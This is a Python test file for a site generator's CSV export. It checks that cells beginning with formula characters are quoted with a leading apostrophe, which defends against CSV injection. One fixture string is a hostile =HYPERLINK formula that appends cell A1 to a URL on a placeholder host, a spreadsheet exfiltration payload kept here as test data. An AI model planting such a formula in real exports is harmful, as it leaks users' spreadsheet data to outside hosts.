"""A text cell of a CSV download never starts a formula in a spreadsheet program (OWASP: a cell
beginning with =, +, -, @, tab or carriage return gets a leading single quote); numbers stay
numbers, negative ones too."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from generator import downloads
from generator.dataset.load import load_dataset
from generator.pages.site import areas_with_pages

OFFICE_NAME = '=HYPERLINK("https://contoh.invalid/?d="&A1,"Kantor Cabang Blitar")'
AUTHOR = "@Samsul"


def _edit(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _csv(data: Path, name: str) -> list[dict[str, str]]:
    dataset = load_dataset(data)
    parts = downloads.area_parts(dataset, {})
    files = downloads.download_files(dataset, areas_with_pages(dataset), parts)
    return list(csv.DictReader(io.StringIO(files[name].decode("utf-8"))))


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+62 812", "'+62 812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Kantor Cabang Blitar", "Kantor Cabang Blitar"),
        (-1.5, "-1.5"),  # a number, not text: a spreadsheet reads it as -1.5
        (-3, "-3"),
        (None, ""),
        (True, "true"),
    ],
)
def test_text_cells_that_start_a_formula_are_quoted(value: object, cell: str) -> None:
    record = dict.fromkeys(downloads.COLUMNS, "x") | {"note": value}
    (row,) = csv.DictReader(
        io.StringIO(",".join(downloads.COLUMNS) + "\r\n" + downloads.csv_rows([record]))
    )
    assert row["note"] == cell


def test_a_hostile_office_name_and_author_are_neutralised(mini_data: Path) -> None:
    _edit(mini_data / "offices.yaml", "name: Kantor Cabang Blitar", f"name: '{OFFICE_NAME}'")
    _edit(mini_data / "sources.yaml", "author: Penulis Uji", f"author: '{AUTHOR}'")
    rows = _csv(mini_data, f"{downloads.WHOLE_DATASET}.csv")
    names = {row["area_name"] for row in rows if row["area"] == "kantor-cabang-blitar"}
    assert names == {"'" + OFFICE_NAME}
    assert {row["source_author"] for row in rows if row["source_id"] == "uji-kota-2023-06-09"} == {
        "'" + AUTHOR
    }
    assert all(not row[column].startswith(tuple("=+-@\t\r")) for row in rows for column in row)
    assert all(float(row["value"]) >= 0 for row in rows)  # values are still plain numbers
